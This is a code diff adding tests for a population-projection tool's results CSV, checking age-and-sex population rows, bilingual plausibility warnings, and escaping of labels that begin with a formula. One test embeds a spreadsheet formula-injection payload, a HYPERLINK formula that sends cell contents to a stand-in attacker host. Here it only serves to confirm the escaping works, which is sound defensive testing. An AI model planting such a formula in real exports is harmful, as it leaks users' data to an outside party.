@@ -84,3 +84,31 @@ describe('the results CSV the page exports', () => {
     expect(words.filter((x) => /[\u4e00-\u9fff]/.test(x ?? ''))).toEqual([]);
   });
 });
+
+describe('the results CSV also carries', () => {
+  it('the population by age group and sex, and the plausibility warnings, in the UI language', () => {
+    const zh = table(csv('zh'));
+    const groups = section(zh, '分年龄组、性别人口');
+    const m0 = groups.find((r) => r[0] === 'pop_male_0_4')!;
+    expect(m0[1]).toBe('男性0–4岁人口');
+    expect(Number(m0[3])).toBeGreaterThan(0);
+    expect(groups.filter((r) => /^pop_(male|female)_/.test(r[0]))).toHaveLength(42);
+    const sumBase = groups.filter((r) => /^pop_(male|female)_/.test(r[0])).reduce((s, r) => s + Number(r[3]), 0);
+    expect(sumBase).toBeCloseTo(result.series.pop_total[0], 0);
+    const warned = structuredClone(scenario);
+    warned.parameters.dibao_std_rural_base = 900; // above the urban 660: a warning
+    const r2 = projector.run(warned);
+    expect(r2.warnings.length).toBeGreaterThan(0);
+    const en = table(resultsReportCsv({ lang: 'en', scenario: warned, result: r2, variables: projector.variables(warned), parameters: projector.parameters }));
+    const w = section(en, 'Plausibility warnings');
+    expect(w[0]).toEqual(['Warning', 'Years', 'Parameters to look at']);
+    expect(w.slice(1).map((r) => r[0])).toEqual(r2.warnings.map((x) => x.message.en));
+  });
+
+  it('a label with a formula and a newline is escaped (the first character decides, not the first line)', () => {
+    const evil = structuredClone(scenario);
+    evil.name = '=HYPERLINK("http://evil.example/?x="&A1,"click")\nsecond line';
+    const rows = table(resultsReportCsv({ lang: 'zh', scenario: evil, result, variables: projector.variables(evil), parameters: projector.parameters }));
+    expect(rows[0][1].startsWith("'=")).toBe(true);
+  });
+});
